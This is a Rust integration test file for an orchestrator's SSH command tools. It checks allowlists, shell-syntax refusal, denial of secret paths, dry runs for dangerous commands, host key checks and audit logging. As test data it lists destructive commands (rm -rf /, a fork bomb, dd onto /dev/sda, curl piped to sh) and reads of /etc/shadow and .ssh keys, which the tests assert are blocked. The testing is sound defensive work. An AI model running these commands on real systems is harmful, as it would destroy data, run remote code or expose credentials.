//! `ssh.exec` and `ssh.exec.peek` against a real OpenSSH server on loopback.

use std::time::{Duration, Instant};

use orchestrator::tools::ssh::{HostConfig, SshConfig};
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::{
    helpers::{Spawn, TestApp, TestDb, eventually, job_id, spawn, spawn_with},
    process::ready_within,
    sshd::{Sshd, keygen, processes_running},
};

async fn app_for(host: HostConfig) -> TestApp {
    app_with(host, |_| {}).await
}

/// An instance serving `host` as "test", with more SSH settings changed by `configure`.
async fn app_with(
    host: HostConfig,
    configure: impl FnOnce(&mut SshConfig) + Send + 'static,
) -> TestApp {
    spawn_with(move |c| {
        c.ssh.hosts.insert("test".into(), host);
        configure(&mut c.ssh);
    })
    .await
}

/// How long a request waits for its job: generous, as sshd shares a busy machine.
const WAIT_MS: u64 = 30_000;

async fn peek(app: &TestApp, command: &str) -> (StatusCode, Value) {
    app.orchestrate_json(json!({
        "intent": "ssh.exec.peek",
        "inputs": {"host": "test", "command": command},
        "timeout_ms": WAIT_MS,
    }))
    .await
}

async fn exec(app: &TestApp, inputs: Value) -> (StatusCode, Value) {
    app.orchestrate_json(json!({"intent": "ssh.exec", "inputs": inputs, "timeout_ms": WAIT_MS}))
        .await
}

async fn events(app: &TestApp, id: &str) -> Vec<Value> {
    let (status, body) = app.get_json(&format!("/jobs/{id}/events")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    body["events"].as_array().unwrap().clone()
}

/// The SSH entries of a job's history, as `(kind, detail)`.
async fn ssh_events(app: &TestApp, id: &str) -> Vec<(String, Value)> {
    events(app, id)
        .await
        .into_iter()
        .filter(|e| e["kind"].as_str().unwrap().starts_with("ssh."))
        .map(|e| (e["kind"].as_str().unwrap().to_owned(), e["detail"].clone()))
        .collect()
}

/// Asserts peek answers 422 with `code` about `inputs.command`; returns the reason given.
async fn peek_refused(app: &TestApp, command: &str, code: &str) -> String {
    let (status, problem) = peek(app, command).await;
    assert_eq!(
        status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{command:?}: {problem}"
    );
    assert_eq!(problem["code"], code, "{command:?}: {problem}");
    assert_eq!(problem["errors"][0]["field"], "inputs.command");
    let message = problem["errors"][0]["message"].as_str().unwrap().to_owned();
    assert!(problem["detail"].as_str().unwrap().contains(&message));
    message
}

fn assert_never_logged_in(sshd: &Sshd) {
    let log = sshd.log();
    assert!(
        !log.contains("Accepted publickey"),
        "nobody logged in:\n{log}"
    );
}

/// A number no other process on the machine has in its command line.
fn unique_seconds() -> String {
    format!(
        "{}.{:06}",
        600 + rand::random::<u16>() % 300,
        rand::random::<u32>() % 1_000_000
    )
}

#[tokio::test]
async fn peek_runs_an_allowlisted_command_and_answers_with_its_output() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;

    let (status, body) = peek(&app, "uname -a").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "success", "{body}");
    let r = &body["result"];
    assert_eq!(r["host"], "test");
    assert_eq!(r["command"], "'uname' '-a'", "sent as quoted words");
    assert!(r["stdout"].as_str().unwrap().starts_with("Linux"), "{r}");
    assert_eq!(r["stderr"], "");
    assert_eq!(r["exit_code"], 0);
    assert!(r.get("signal").is_none());
    assert!(r["duration_ms"].is_u64());
    assert_eq!(r["truncated"], json!({"stdout": false, "stderr": false}));

    // A path with spaces and a quote reaches `cat` as one argument.
    let file = sshd.path("it's a note.txt");
    std::fs::write(&file, "hello from the host\n").unwrap();
    let (_, body) = peek(
        &app,
        &format!(
            "cat \"{}\"",
            file.display().to_string().replace('"', "\\\"")
        ),
    )
    .await;
    assert_eq!(body["result"]["stdout"], "hello from the host\n", "{body}");

    // A failing command is a successful job with its exit code.
    let (status, body) = peek(&app, "ls /no/such/directory").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "success", "{body}");
    assert_eq!(body["result"]["exit_code"], 2);
    assert!(
        body["result"]["stderr"]
            .as_str()
            .unwrap()
            .contains("No such file")
    );

    // Both intents are listed, with their effects.
    let (_, tools) = app.get_json("/tools").await;
    let text = tools.to_string();
    assert!(
        text.contains("ssh.exec.peek") && text.contains("\"ssh.exec\""),
        "{text}"
    );
}

#[tokio::test]
async fn peek_refuses_shell_syntax_naming_the_reason() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let marker = sshd.path("marker");
    let m = marker.display();
    let cases = [
        (format!("ls; touch {m}"), "`;`"),
        (format!("ls | touch {m}"), "`|`"),
        (format!("touch {m} &"), "`&`"),
        (format!("ls && touch {m}"), "`&&`"),
        (format!("ls || touch {m}"), "`||`"),
        (format!("ls $(touch {m})"), "command substitution"),
        (format!("ls `touch {m}`"), "command substitution"),
        (format!("ls > {m}"), "redirection"),
        (format!("ls >> {m}"), "redirection"),
        ("cat < /etc/hostname".to_string(), "redirection"),
        (format!("ls\ntouch {m}"), "newline"),
        (format!("(touch {m})"), "subshell"),
        ("ls $HOME".to_string(), "variable expansion"),
        ("ls ${HOME}".to_string(), "variable expansion"),
        ("FOO=1 ls".to_string(), "environment assignment"),
        ("ls /etc/*.conf".to_string(), "glob"),
        ("ls /etc/host?".to_string(), "glob"),
        ("ls ~".to_string(), "tilde"),
    ];
    for (command, reason) in &cases {
        let message = peek_refused(&app, command, "shell_syntax_not_allowed").await;
        assert!(
            message.contains(reason),
            "{command:?}: {message:?} should name {reason}"
        );
    }
    assert!(!marker.exists(), "nothing ran");
}

#[tokio::test]
async fn peek_refuses_programs_off_the_allowlist_and_forbidden_arguments() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let victim = sshd.path("victim");
    std::fs::write(&victim, "x").unwrap();
    let v = victim.display();
    for command in [
        format!("rm -f {v}"),
        format!("/bin/cat {v}"),
        format!("tail -f {v}"),
        format!("tail --follow=name {v}"),
        format!("find {v} -delete"),
        format!("find {v} -exec rm '{{}}' ';'"),
        "journalctl -f".to_string(),
        "systemctl stop ssh".to_string(),
        "date -s 2001-01-01".to_string(),
    ] {
        peek_refused(&app, &command, "command_not_allowed").await;
    }
    let message = peek_refused(&app, &format!("rm -f {v}"), "command_not_allowed").await;
    assert!(message.contains("not on the peek allowlist"), "{message}");
    assert!(victim.exists(), "nothing ran");
}

#[tokio::test]
async fn the_allowlist_is_checked_again_when_the_job_runs() {
    let sshd = Sshd::start().await;
    let db = TestDb::new().await;
    // This instance takes the request (uname allowed) but runs nothing…
    let host = sshd.host();
    let intake = spawn(Spawn {
        db: Some(db.clone()),
        configure: Box::new(move |c| {
            c.workers.concurrency = 0;
            c.ssh.hosts.insert("test".into(), host);
        }),
        ..Default::default()
    })
    .await;
    let (status, body) = intake
        .orchestrate_json(json!({"intent": "ssh.exec.peek", "async": true,
                                 "inputs": {"host": "test", "command": "uname -a"}}))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let id = job_id(&body);
    // …this one runs it, with uname taken off its allowlist.
    let host = sshd.host();
    let worker = spawn(Spawn {
        db: Some(db),
        configure: Box::new(move |c| {
            c.ssh.hosts.insert("test".into(), host);
            c.ssh.peek.remove = vec!["uname".into()];
        }),
        ..Default::default()
    })
    .await;
    let job = worker.wait_for_status(&id, "failed").await;
    assert_eq!(job["error"]["code"], "command_not_allowed", "{job}");
    assert_eq!(job["attempts"], 1, "a refusal is not retried");
    let history = ssh_events(&worker, &id).await;
    assert_eq!(history.len(), 1, "{history:?}");
    let (kind, detail) = &history[0];
    assert_eq!(kind, "ssh.refused");
    assert_eq!(detail["host"], "test");
    assert_eq!(detail["decision"], "refused");
    assert_eq!(detail["code"], "command_not_allowed");
    assert!(detail["reason"].as_str().unwrap().contains("uname"));
    assert_never_logged_in(&sshd);
}

/// The SSH rows of the audit trail for a job, as `(kind, outcome, code, reason)`.
async fn ssh_audit_rows(app: &TestApp, id: &str) -> Vec<(String, Option<String>, String, String)> {
    sqlx::query_as(
        "SELECT kind, outcome, coalesce(detail->>'code', ''), coalesce(detail->>'reason', '')
         FROM audit_events WHERE job_id = $1 AND kind LIKE 'ssh.%' ORDER BY id",
    )
    .bind(uuid::Uuid::parse_str(&id[4..]).unwrap())
    .fetch_all(app.pool())
    .await
    .unwrap()
}

#[tokio::test]
async fn peek_refuses_secret_paths_and_runs_nothing() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    // A real key file the login user could read.
    let ssh_dir = sshd.path(".ssh");
    std::fs::create_dir(&ssh_dir).unwrap();
    std::fs::copy(
        sshd.path("authorized_keys"),
        ssh_dir.join("authorized_keys"),
    )
    .unwrap();
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let d = sshd.dir.path().display();
    for (command, reason) in [
        (format!("cat {home}/.ssh/authorized_keys"), "`**/.ssh`"),
        (format!("cat {d}/.ssh/authorized_keys"), "`**/.ssh`"),
        (
            format!("head -n 1 {d}/x/../.ssh//authorized_keys"),
            "`**/.ssh`",
        ),
        (format!("ls -la {d}/.ssh"), "`**/.ssh`"),
        (format!("find {d}/.ssh"), "`**/.ssh`"),
        ("cat .ssh/authorized_keys".to_string(), "`**/.ssh`"),
        ("cat /etc/shadow".to_string(), "`/etc/shadow*`"),
        ("grep -e root /etc/shadow".to_string(), "`/etc/shadow*`"),
        ("cat /proc/1/environ".to_string(), "`/proc/**/environ`"),
        ("cat /proc/1/root/etc/shadow".to_string(), "`/proc/**/root`"),
        ("grep -r ssh-ed25519 /etc".to_string(), "recursive search"),
    ] {
        let message = peek_refused(&app, &command, "path_not_allowed").await;
        assert!(
            message.contains(reason),
            "{command:?}: {message:?} should name {reason}"
        );
    }
    assert_never_logged_in(&sshd);
    // Each refusal at intake is in the audit trail, with who asked, the host and the reason.
    let refusals: Vec<(String, String, String, String)> = sqlx::query_as(
        "SELECT target, outcome, detail ->> 'command', detail ->> 'code' FROM audit_events \
         WHERE kind = 'ssh.refused' AND job_id IS NULL AND intent = 'ssh.exec.peek' \
           AND actor_name = 'anonymous' AND http_status = 422 ORDER BY id",
    )
    .fetch_all(app.pool())
    .await
    .unwrap();
    assert_eq!(refusals.len(), 11, "{refusals:?}");
    assert!(
        refusals
            .iter()
            .all(|(host, decision, _, code)| host == "test"
                && decision == "refused"
                && code == "path_not_allowed")
    );
    assert_eq!(refusals[6].2, "cat /etc/shadow");
}

#[tokio::test]
async fn a_path_refused_when_the_job_runs_is_audited_and_nothing_is_sent() {
    let sshd = Sshd::start().await;
    let db = TestDb::new().await;
    let note = sshd.path("note.txt");
    std::fs::write(&note, "private\n").unwrap();
    // This instance takes the request (no deny_paths) but runs nothing…
    let host = sshd.host();
    let intake = spawn(Spawn {
        db: Some(db.clone()),
        configure: Box::new(move |c| {
            c.workers.concurrency = 0;
            c.ssh.hosts.insert("test".into(), host);
        }),
        ..Default::default()
    })
    .await;
    let command = format!("cat {}", note.display());
    let (status, body) = intake
        .orchestrate_json(json!({"intent": "ssh.exec.peek", "async": true,
                                 "inputs": {"host": "test", "command": command}}))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let id = job_id(&body);
    // …this one runs it, with the file denied on the host.
    let mut host = sshd.host();
    host.peek.deny_paths = vec![note.display().to_string()];
    let worker = spawn(Spawn {
        db: Some(db),
        configure: Box::new(move |c| {
            c.ssh.hosts.insert("test".into(), host);
        }),
        ..Default::default()
    })
    .await;
    let job = worker.wait_for_status(&id, "failed").await;
    assert_eq!(job["error"]["code"], "path_not_allowed", "{job}");
    assert_eq!(job["attempts"], 1, "a refusal is not retried");
    let rows = ssh_audit_rows(&worker, &id).await;
    assert_eq!(rows.len(), 1, "only the refusal, no ssh.run: {rows:?}");
    let (kind, outcome, code, reason) = &rows[0];
    assert_eq!(kind, "ssh.refused");
    assert_eq!(outcome.as_deref(), Some("refused"));
    assert_eq!(code, "path_not_allowed");
    assert!(
        reason.contains(&note.display().to_string()) && reason.contains("denied on this host"),
        "{reason}"
    );
    assert_never_logged_in(&sshd);
}

#[tokio::test]
async fn a_host_with_allow_paths_runs_commands_inside_them_only() {
    let sshd = Sshd::start().await;
    let inside = sshd.path("logs");
    std::fs::create_dir_all(inside.join("app/.ssh")).unwrap();
    std::fs::write(inside.join("app/app.log"), "ok\nneedle one\n").unwrap();
    std::fs::write(inside.join("app/.env"), "needle=secret\n").unwrap();
    std::fs::write(inside.join("app/.ssh/id_test"), "needle key\n").unwrap();
    let mut host = sshd.host();
    host.peek.allow_paths = Some(vec![inside.display().to_string()]);
    let app = app_for(host).await;
    let d = inside.display();

    let (status, body) = peek(&app, &format!("cat {d}/app/app.log")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["result"]["stdout"], "ok\nneedle one\n", "{body}");

    // A recursive grep really runs, and skips the secrets below its start.
    let (status, body) = peek(&app, &format!("grep -rn needle {d}")).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let r = &body["result"];
    assert_eq!(r["exit_code"], 0, "{r}");
    assert_eq!(
        r["stdout"],
        format!("{d}/app/app.log:2:needle one\n"),
        "{r}"
    );
    assert!(
        r["command"]
            .as_str()
            .unwrap()
            .contains("'--exclude-dir=.ssh'"),
        "{r}"
    );

    for (command, reason) in [
        (
            "cat /etc/hostname".to_string(),
            "outside this host's allow_paths",
        ),
        (
            format!("cat {d}/../sshd_config"),
            "outside this host's allow_paths",
        ),
        ("ls".to_string(), "home directory"),
        ("cat app/app.log".to_string(), "relative"),
        (format!("cat {d}/app/.env"), "`**/.env`"),
    ] {
        let message = peek_refused(&app, &command, "path_not_allowed").await;
        assert!(
            message.contains(reason),
            "{command:?}: {message:?} should say {reason}"
        );
    }
    // Commands that name no path still run.
    let (status, body) = peek(&app, "uptime").await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

#[tokio::test]
async fn exec_runs_a_command_and_a_non_zero_exit_is_still_a_result() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let (status, body) = exec(
        &app,
        json!({"host": "test", "command": "echo hello; echo oops >&2; exit 3"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "success", "{body}");
    let r = &body["result"];
    assert_eq!(r["stdout"], "hello\n");
    assert_eq!(r["stderr"], "oops\n");
    assert_eq!(r["exit_code"], 3);
    assert_eq!(r["command"], "echo hello; echo oops >&2; exit 3");

    let history = ssh_events(&app, &job_id(&body)).await;
    let kinds: Vec<&str> = history.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(kinds, ["ssh.run", "ssh.exit"]);
    let (_, run) = &history[0];
    assert_eq!(run["decision"], "run");
    assert_eq!(run["host"], "test");
    assert_eq!(
        run["argv"],
        json!([
            "echo", "hello", ";", "echo", "oops", ">&", "2", ";", "exit", "3"
        ])
    );
    let (_, exit) = &history[1];
    assert_eq!(exit["decision"], "ran");
    assert_eq!(exit["exit_code"], 3);

    // The audit trail answers who ran what where.
    let report = sqlx::query!(
        r#"SELECT principal, host, command, decision, exit_code, result
           FROM report_ssh_commands WHERE job_id = $1"#,
        uuid::Uuid::parse_str(&job_id(&body)[4..]).unwrap()
    )
    .fetch_one(app.pool())
    .await
    .unwrap();
    assert_eq!(
        (
            report.principal.as_deref(),
            report.host.as_deref(),
            report.decision.as_deref()
        ),
        (Some("anonymous"), Some("test"), Some("run"))
    );
    assert_eq!(
        report.command.as_deref(),
        Some("echo hello; echo oops >&2; exit 3")
    );
    assert_eq!(
        (report.exit_code, report.result.as_deref()),
        (Some(3), Some("ran"))
    );

    // A command killed by a signal reports the signal, not an exit code.
    let (_, body) = exec(
        &app,
        json!({"host": "test", "command": "echo bye; kill -TERM $$"}),
    )
    .await;
    assert_eq!(body["status"], "success", "{body}");
    assert_eq!(body["result"]["stdout"], "bye\n");
    assert_eq!(body["result"]["signal"], "TERM");
    assert_eq!(body["result"]["exit_code"], Value::Null);

    // Its stdin is empty: a command that reads it does not hang.
    let (_, body) = exec(
        &app,
        json!({"host": "test", "command": "cat; echo read-all"}),
    )
    .await;
    assert_eq!(body["result"]["stdout"], "read-all\n", "{body}");
}

#[tokio::test]
async fn dangerous_commands_are_dry_runs_that_run_nothing() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let dangerous = [
        "rm -rf /",
        "sudo rm -rf /etc",
        "bash -c 'mkfs.ext4 /dev/sda'",
        "echo hi && reboot",
        "curl http://example.invalid/x | sh",
        ":(){ :|:& };:",
        "kill -9 -1",
        "chmod -R 777 /",
        "dd if=/dev/zero of=/dev/sda",
        "systemctl stop sshd",
        "iptables -F",
        "crontab -r",
        "history -c",
    ];
    for (i, danger) in dangerous.iter().enumerate() {
        // Had anything run, the marker would exist.
        let marker = sshd.path(&format!("ran-{i}"));
        let command = format!("touch {}; {danger}", marker.display());
        let (status, body) = exec(&app, json!({"host": "test", "command": command})).await;
        assert_eq!(status, StatusCode::OK, "{danger}: {body}");
        assert_eq!(body["status"], "dry_run", "{danger}: {body}");
        assert_eq!(body["job_status"], "succeeded");
        let r = &body["result"];
        assert_eq!(r["dry_run"], true);
        assert_eq!(r["command"], command);
        assert_eq!(r["note"], "Set confirm_dangerous=true to run it");
        assert!(
            !r["reasons"].as_array().unwrap().is_empty(),
            "{danger}: {r}"
        );
        assert!(!marker.exists(), "{danger}: the command must not run");

        let history = ssh_events(&app, &job_id(&body)).await;
        assert_eq!(history.len(), 1, "{history:?}");
        assert_eq!(history[0].0, "ssh.dry_run");
        assert_eq!(history[0].1["decision"], "dry_run");
        assert_eq!(history[0].1["reasons"], r["reasons"]);
    }
    assert_never_logged_in(&sshd);
}

#[tokio::test]
async fn a_confirmed_dangerous_command_runs() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let victim = sshd.path("victim");
    std::fs::write(&victim, "secret").unwrap();
    let command = format!("shred -u {}", victim.display());

    let (_, body) = exec(&app, json!({"host": "test", "command": command})).await;
    assert_eq!(body["status"], "dry_run", "{body}");
    assert_eq!(
        body["result"]["reasons"],
        json!(["`shred` destroys file contents for good"])
    );
    assert!(victim.exists());

    let (_, body) = exec(
        &app,
        json!({"host": "test", "command": command, "confirm_dangerous": true}),
    )
    .await;
    assert_eq!(body["status"], "success", "{body}");
    assert_eq!(body["result"]["exit_code"], 0);
    assert!(!victim.exists(), "it ran");
    let history = ssh_events(&app, &job_id(&body)).await;
    assert_eq!(history[0].0, "ssh.run");
    assert_eq!(history[0].1["decision"], "run_confirmed");
    assert_eq!(history[0].1["reasons"], body_reasons(&command));
}

fn body_reasons(command: &str) -> Value {
    json!(orchestrator::tools::ssh::dangers(command))
}

#[tokio::test]
async fn unknown_hosts_and_hosts_closed_to_the_intent_are_422() {
    let sshd = Sshd::start().await;
    let mut only_peek = sshd.host();
    only_peek.intents = Some(vec!["ssh.exec.peek".into()]);
    let app = spawn_with(move |c| {
        c.ssh.hosts.insert("test".into(), only_peek);
        c.ssh.hosts.insert("web-1".into(), {
            let mut h = HostConfig::new("10.255.255.1", 22, "ops");
            h.host_key = Some(keygen_public());
            h.agent = true;
            h
        });
    })
    .await;
    for intent in ["ssh.exec", "ssh.exec.peek"] {
        let (status, problem) = app
            .orchestrate_json(json!({"intent": intent,
                                     "inputs": {"host": "nope", "command": "uptime"}}))
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
        assert_eq!(problem["code"], "unknown_host");
        assert_eq!(problem["errors"][0]["field"], "inputs.host");
        let message = problem["errors"][0]["message"].as_str().unwrap();
        assert!(
            message.contains("test") && message.contains("web-1"),
            "lists the configured hosts: {message}"
        );
    }
    let (status, problem) = exec(&app, json!({"host": "test", "command": "uptime"})).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(problem["code"], "host_not_allowed");
    let (status, problem) = exec(
        &app,
        json!({"host": "web-1", "command": "uptime", "timeout_ms": 700_000}),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(problem["code"], "invalid_inputs");
    assert_eq!(problem["errors"][0]["field"], "inputs.timeout_ms");
}

fn keygen_public() -> String {
    let dir = tempfile::tempdir().unwrap();
    keygen(&dir.path().join("k"), "")
}

#[tokio::test]
async fn a_host_key_that_does_not_match_fails_the_job_before_anything_is_sent() {
    let sshd = Sshd::start().await;
    let mut host = sshd.host();
    host.host_key = Some(keygen_public());
    let app = app_for(host).await;
    let (status, body) = peek(&app, "uname -a").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "error", "{body}");
    assert_eq!(body["job_status"], "failed");
    assert_eq!(body["error"]["code"], "host_key_mismatch");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(message.contains("SHA256:"), "{message}");
    let id = job_id(&body);
    assert_eq!(app.job(&id).await["attempts"], 1, "not retried");
    let history = ssh_events(&app, &id).await;
    assert_eq!(history.len(), 1, "{history:?}");
    assert_eq!(history[0].0, "ssh.host_key_mismatch");
    assert_eq!(history[0].1["decision"], "refused");
    assert_eq!(history[0].1["argv"], json!(["uname", "-a"]));
    let log = sshd.log();
    assert!(
        !log.contains("publickey") && !log.contains("Accepted"),
        "no authentication was attempted:\n{log}"
    );
}

#[tokio::test]
async fn a_known_hosts_file_is_an_alternative_to_pinning() {
    let sshd = Sshd::start().await;
    let known = sshd.path("known_hosts");
    std::fs::write(
        &known,
        format!(
            "# the test server\n[127.0.0.1]:{} {}\n",
            sshd.port, sshd.host_key
        ),
    )
    .unwrap();
    let mut host = sshd.host();
    host.host_key = None;
    host.known_hosts = Some(known);
    let app = app_for(host).await;
    let (_, body) = peek(&app, "whoami").await;
    assert_eq!(body["status"], "success", "{body}");
    assert_eq!(body["result"]["stdout"], format!("{}\n", sshd.user));

    let unknown = sshd.path("known_hosts_other");
    std::fs::write(&unknown, format!("[127.0.0.1]:1 {}\n", sshd.host_key)).unwrap();
    let mut host = sshd.host();
    host.host_key = None;
    host.known_hosts = Some(unknown);
    let app = app_for(host).await;
    let (_, body) = peek(&app, "whoami").await;
    assert_eq!(body["error"]["code"], "host_key_mismatch", "{body}");
}

#[tokio::test]
async fn a_command_past_its_timeout_is_killed_and_the_job_ends_timed_out() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let seconds = unique_seconds();
    let started = sshd.path("started");
    let command = format!("touch {} && sleep {seconds}", started.display());
    let t0 = Instant::now();
    let (status, body) = exec(
        &app,
        json!({"host": "test", "command": command, "timeout_ms": 700}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "error", "{body}");
    assert_eq!(body["job_status"], "timed_out");
    assert_eq!(body["error"]["code"], "timed_out");
    assert!(
        t0.elapsed() < Duration::from_secs(10),
        "ended by its own time limit"
    );
    assert!(started.exists(), "the command did start");
    let gone = eventually(Duration::from_secs(5), || async {
        processes_running(&format!("sleep {seconds}")) == 0
    })
    .await;
    assert!(gone, "the remote process was killed:\n{}", sshd.log());
    let id = job_id(&body);
    assert_eq!(
        app.job(&id).await["attempts"],
        1,
        "a timed-out command is not re-run"
    );
    let history = ssh_events(&app, &id).await;
    assert_eq!(history.last().unwrap().1["decision"], "timed_out");
}

#[tokio::test]
async fn cancelling_a_running_command_kills_it_and_closes_the_channel() {
    let sshd = Sshd::start().await;
    let app = app_for(sshd.host()).await;
    let seconds = unique_seconds();
    let command = format!("sleep {seconds}");
    let (status, body) = app
        .orchestrate_json(json!({"intent": "ssh.exec", "async": true,
                                 "inputs": {"host": "test", "command": command}}))
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{body}");
    let id = job_id(&body);
    let running = eventually(Duration::from_secs(10), || async {
        processes_running(&command) > 0
    })
    .await;
    assert!(running, "the command started on the host");

    let (status, job) = app
        .post_json(&format!("/jobs/{id}/cancel"), json!({}))
        .await;
    assert!(status.is_success(), "{job}");
    app.wait_for_status(&id, "cancelled").await;
    let gone = eventually(Duration::from_secs(5), || async {
        processes_running(&command) == 0
    })
    .await;
    assert!(gone, "the remote process was killed:\n{}", sshd.log());
    let closed = eventually(Duration::from_secs(5), || async {
        sshd.log().contains("Close session")
    })
    .await;
    assert!(closed, "the channel was closed:\n{}", sshd.log());
}

#[tokio::test]
async fn output_over_the_cap_is_truncated_and_nul_bytes_are_removed() {
    let sshd = Sshd::start().await;
    let app = app_with(sshd.host(), |ssh| ssh.max_output_bytes = 1024).await;
    let (_, body) = exec(
        &app,
        json!({"host": "test", "command": "head -c 300000 /dev/zero | tr '\\0' a; echo done >&2"}),
    )
    .await;
    assert_eq!(body["status"], "success", "{body}");
    let r = &body["result"];
    assert_eq!(r["stdout"].as_str().unwrap(), "a".repeat(1024));
    assert_eq!(r["truncated"], json!({"stdout": true, "stderr": false}));
    assert_eq!(r["stderr"], "done\n", "the command ran to its end");

    let file = sshd.path("with-nul");
    std::fs::write(&file, b"a\0b\0c\xff\n").unwrap();
    let (_, body) = peek(&app, &format!("cat {}", file.display())).await;
    assert_eq!(body["result"]["stdout"], "abc\u{fffd}\n", "{body}");
}

#[tokio::test]
async fn concurrent_commands_share_one_connection_within_the_session_limit() {
    let sshd = Sshd::start().await;
    let mut host = sshd.host();
    host.max_sessions = 2;
    let app = app_for(host).await;
    let submit = |i: usize| {
        let client = app.client.clone();
        let url = format!("{}/orchestrate", app.base);
        async move {
            let body: Value = client
                .post(url)
                .json(
                    &json!({"intent": "ssh.exec", "inputs": {"host": "test", "command":
                    format!("echo {i} $SSH_CONNECTION; date +%s%N; sleep 0.4; date +%s%N")}}),
                )
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            body
        }
    };
    let results = futures::future::join_all((0..6).map(submit)).await;
    let mut intervals = Vec::new();
    let mut connections = Vec::new();
    for body in &results {
        assert_eq!(body["status"], "success", "{body}");
        let out = body["result"]["stdout"].as_str().unwrap();
        let lines: Vec<&str> = out.lines().collect();
        connections.push(
            lines[0]
                .split_whitespace()
                .skip(1)
                .collect::<Vec<_>>()
                .join(" "),
        );
        let start: u128 = lines[1].parse().unwrap();
        let end: u128 = lines[2].parse().unwrap();
        intervals.push((start, end));
    }
    let most_at_once = intervals
        .iter()
        .map(|(s, _)| intervals.iter().filter(|(a, b)| a <= s && s < b).count())
        .max()
        .unwrap();
    assert_eq!(
        most_at_once, 2,
        "at most max_sessions at once: {intervals:?}"
    );
    connections.dedup();
    assert_eq!(
        connections.len(),
        1,
        "one connection served all: {connections:?}"
    );
}

#[tokio::test]
async fn the_connection_is_reused_then_closed_when_idle() {
    let sshd = Sshd::start().await;
    // Long enough that a loaded CI machine never idles out between two requests.
    let app = app_with(sshd.host(), |ssh| ssh.idle_timeout = Duration::from_secs(2)).await;
    let client_port = |body: &Value| -> String {
        let out = body["result"]["stdout"].as_str().unwrap().to_owned();
        out.split_whitespace().nth(2).unwrap().to_owned()
    };
    let (_, first) = exec(
        &app,
        json!({"host": "test", "command": "echo 1 $SSH_CONNECTION"}),
    )
    .await;
    let mut latencies = Vec::new();
    for _ in 0..11 {
        let t = Instant::now();
        let (_, body) = peek(&app, "uname -r").await;
        latencies.push(t.elapsed());
        assert_eq!(body["result"]["exit_code"], 0, "{body}");
    }
    let (_, second) = exec(
        &app,
        json!({"host": "test", "command": "echo 2 $SSH_CONNECTION"}),
    )
    .await;
    assert_eq!(
        client_port(&first),
        client_port(&second),
        "the same connection"
    );
    latencies.sort();
    eprintln!(
        "POST /orchestrate ssh.exec.peek `uname -r` over the reused connection: median {:?}",
        latencies[5]
    );

    let closed = eventually(Duration::from_secs(15), || async {
        sshd.log().contains("Received disconnect")
    })
    .await;
    assert!(closed, "the idle connection was closed:\n{}", sshd.log());
    let (_, third) = exec(
        &app,
        json!({"host": "test", "command": "echo 3 $SSH_CONNECTION"}),
    )
    .await;
    assert_ne!(client_port(&first), client_port(&third), "a new connection");
}

#[tokio::test]
async fn an_encrypted_key_is_opened_with_the_passphrase_from_the_environment_and_no_secret_leaks() {
    let sshd = Sshd::start().await;
    let passphrase = format!("pass-{}", rand::random::<u64>());
    let key = sshd.path("encrypted_ed25519");
    let public = keygen(&key, &passphrase);
    std::fs::write(sshd.path("authorized_keys"), public + "\n").unwrap();
    let db = TestDb::new().await;
    let config = sshd.path("orchestrator.toml");
    std::fs::write(
        &config,
        format!(
            "[ssh.hosts.test]\naddress = \"127.0.0.1\"\nport = {}\nuser = \"{}\"\n\
             key_file = \"{}\"\npassphrase_env = \"TEST_SSH_KEY_PASSPHRASE\"\nhost_key = \"{}\"\n",
            sshd.port,
            sshd.user,
            key.display(),
            sshd.host_key
        ),
    )
    .unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let log = sshd.path("orchestrator.log");
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_orchestrator"))
        .args(["serve", "--config"])
        .arg(&config)
        .env_remove("ORCHESTRATOR_CONFIG")
        .env("DATABASE_URL", &db.url)
        .env("ORCH__SERVER__LISTEN", format!("127.0.0.1:{port}"))
        .env("ORCH__DATABASE__EMBEDDED", "false")
        .env("TEST_SSH_KEY_PASSPHRASE", &passphrase)
        .env("RUST_LOG", "debug")
        .stderr(std::fs::File::create(&log).unwrap())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::new();
    let up = ready_within(&client, &base, Duration::from_secs(20)).await;
    assert!(
        up,
        "the server came up:\n{}",
        std::fs::read_to_string(&log).unwrap()
    );
    let body: Value = client
        .post(format!("{base}/orchestrate"))
        .json(&json!({"intent": "ssh.exec.peek", "timeout_ms": WAIT_MS,
                      "inputs": {"host": "test", "command": "id -un"}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["status"], "success", "{body}");
